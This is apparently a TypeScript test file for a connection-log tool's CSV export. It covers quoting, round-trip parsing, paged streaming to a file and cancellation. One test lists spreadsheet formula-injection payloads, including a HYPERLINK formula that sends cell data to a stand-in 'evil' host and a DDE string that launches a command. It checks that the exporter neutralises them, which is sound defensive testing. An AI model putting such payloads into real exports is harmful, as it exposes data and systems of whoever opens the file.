// CSV of the connection log: quoting, escaping, and the export streamed page by page into a file.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CSV_COLUMNS, csvField, csvHeader, csvLine } from '../../../../src/client/history/log-csv';
import { exportLogCsv, EXPORT_PAGE_ROWS } from '../../../../src/client/history/log-export';
import type { LogTableRow } from '../../../../src/protocol/history-webview';

const row = (id: number, extra: Partial<LogTableRow> = {}): LogTableRow => ({
  id, netid: 'tcp', localAddress: '127.0.0.1', localPort: 5000, peerAddress: '::1', peerPort: 40000 + (id % 1000), pid: 42, command: 'curl',
  openedAt: Date.UTC(2026, 11, 2, 1, 0, 0), closedAt: Date.UTC(2026, 11, 2, 1, 0, 1, 250), durationMs: 1250,
  bytesSent: 100, bytesReceived: 2000, retrans: 0, state: 'TIME-WAIT', closedBy: 'kernel-event', ...extra,
});

/** RFC 4180 reader, to read back what was written. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let field = '', rec: string[] = [], q = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (q) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i++; } else if (c === '"') q = false; else field += c;
    } else if (c === '"') q = true;
    else if (c === ',') { rec.push(field); field = ''; }
    else if (c === '\r' && text[i + 1] === '\n') { rec.push(field); rows.push(rec); rec = []; field = ''; i++; }
    else field += c;
  }
  return rows;
}

test('fields are quoted only when needed, quotes doubled', () => {
  assert.equal(csvField('plain'), 'plain');
  assert.equal(csvField(''), '');
  assert.equal(csvField(null), '');
  assert.equal(csvField(12.5), '12.5');
  assert.equal(csvField(NaN), '');
  assert.equal(csvField('a,b'), '"a,b"');
  assert.equal(csvField('say "hi"'), '"say ""hi"""');
  assert.equal(csvField('two\nlines'), '"two\nlines"');
  assert.equal(csvField('cr\r'), '"cr\r"');
});

test('a row reads back with every value, whatever its command name holds', () => {
  const nasty = 'we"ird, name\r\nwith "quotes"';
  const lines = csvHeader() + csvLine(row(1, { command: nasty, peerAddress: null, bytesSent: null, closedBy: null }));
  const [header, values] = parseCsv(lines);
  assert.deepEqual(header, [...CSV_COLUMNS]);
  const rec = Object.fromEntries(header.map((h, i) => [h, values[i]]));
  assert.equal(rec.command, nasty);
  assert.equal(rec.peerAddress, '');
  assert.equal(rec.bytesSent, '');
  assert.equal(rec.openedAt, '2026-12-02T01:00:00.000Z');
  assert.equal(rec.durationMs, '1250');
  assert.equal(rec.state, 'TIME-WAIT');
});

test('a command name a spreadsheet would run as a formula is written as text; numbers stay numbers', () => {
  const hostile = ['=HYPERLINK("http://evil/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\tnew', '\r=1+1'];
  for (const command of hostile) {
    const [, values] = parseCsv(csvHeader() + csvLine(row(1, { command })));
    const cell = values[CSV_COLUMNS.indexOf('command')];
    assert.equal(cell, `'${command}`, `${JSON.stringify(command)} is neutralised`);
    assert.equal(values[CSV_COLUMNS.indexOf('localPort')], '5000');
  }
  // Inside the text a formula character is harmless (a spreadsheet only looks at the first one).
  assert.equal(csvField('a=b'), 'a=b');
  assert.equal(csvField('=1'), "'=1");
  assert.equal(csvField('=a,b'), '"\'=a,b"');
  // Numbers are written raw, even a negative one (the log has none, but it is a number, not a formula).
  assert.equal(csvField(-3), '-3');
  assert.equal(csvField(0), '0');
});

test('export streams every page into the file (no whole table in memory) and stops when cancelled', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'sockscope-csv-'));
  try {
    const total = EXPORT_PAGE_ROWS * 2 + 17;
    const asked: Array<[number, number]> = [];
    const source = {
      log: async (q: { offset: number; limit: number }) => {
        asked.push([q.offset, q.limit]);
        const rows: LogTableRow[] = [];
        for (let i = q.offset; i < Math.min(total, q.offset + q.limit); i++) rows.push(row(i, { command: i % 7 ? 'x' : 'a,"b"' }));
        return { total, rows };
      },
    };
    const query = { filter: '', range: { from: null, to: null }, sort: { column: 'closed' as const, descending: false } };
    const file = join(dir, 'log.csv');
    const progress: number[] = [];
    assert.equal(await exportLogCsv(source, query, file, (done) => progress.push(done)), total);
    assert.deepEqual(asked.map((a) => a[1]), [EXPORT_PAGE_ROWS, EXPORT_PAGE_ROWS, EXPORT_PAGE_ROWS]);
    assert.deepEqual(progress, [EXPORT_PAGE_ROWS, EXPORT_PAGE_ROWS * 2, total]);
    const parsed = parseCsv(readFileSync(file, 'utf8'));
    assert.equal(parsed.length, total + 1);
    assert.equal(parsed[8][CSV_COLUMNS.indexOf('command')], 'a,"b"');
    let pages = 0;
    assert.equal(await exportLogCsv(source, query, join(dir, 'cut.csv'), undefined, () => pages++ >= 1), EXPORT_PAGE_ROWS);
    await assert.rejects(exportLogCsv(source, query, join(dir, 'missing', 'x.csv')), /ENOENT/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
